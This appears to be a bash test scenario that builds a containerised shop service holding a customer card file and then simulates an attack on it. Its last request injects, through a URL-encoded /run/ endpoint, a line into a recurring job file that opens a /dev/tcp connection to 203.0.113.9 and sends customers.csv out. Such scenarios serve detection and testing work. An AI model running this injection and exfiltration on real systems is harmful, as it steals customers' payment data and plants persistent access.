# shellcheck shell=bash disable=SC2034
HOST=node01
FORMAT=ENRICHED

# A container as an engine starts it: an image and a layer of its own as an overlay, pids and mounts of its own.
container() {
    mkdir -p /srv/layer /srv/work /srv/root
    inside unshare --pid --fork --mount --kill-child bash -c '
        mount -t overlay -o lowerdir=/srv/image:/,upperdir=/srv/layer,workdir=/srv/work image /srv/root
        mount --bind /dev /srv/root/dev
        mount -t proc proc /srv/root/proc
        chroot /srv/root /usr/bin/python3 -S -B /opt/shop/timer.py &
        exec chroot /srv/root /usr/bin/python3 -S -B /opt/shop/service.py' >/dev/null 2>&1 &
}

scenario() {
    local here=$folder
    mkdir -p /srv/image/opt/shop/jobs
    cp "$here/../jobs/service.py" "$here/timer.py" /srv/image/opt/shop
    echo "name,card" >/srv/image/opt/shop/customers.csv
    echo "item,price" >/srv/image/opt/shop/prices.csv
    echo 'grep -c item /opt/shop/prices.csv > /opt/shop/report.txt' >/srv/image/opt/shop/jobs/report
    echo 'ls /opt/shop > /opt/shop/listing.txt' >/srv/image/opt/shop/jobs/listing
    outside /usr/bin/python3 -S -B -m http.server --bind 203.0.113.9 443 --directory /srv/image >/dev/null 2>&1 &
    container
    sleep 4
    outside curl -s --interface 192.0.2.7 http://10.88.0.10:8080/
    outside curl -s --interface 198.51.100.23 "http://10.88.0.10:8080/run/echo%20%27exec%203%3C%3E/dev/tcp/203.0.113.9/443%3B%20cat%20/opt/shop/customers.csv%20%3E%263%27%20%3E%3E%20/opt/shop/jobs/report"
    sleep 4
}
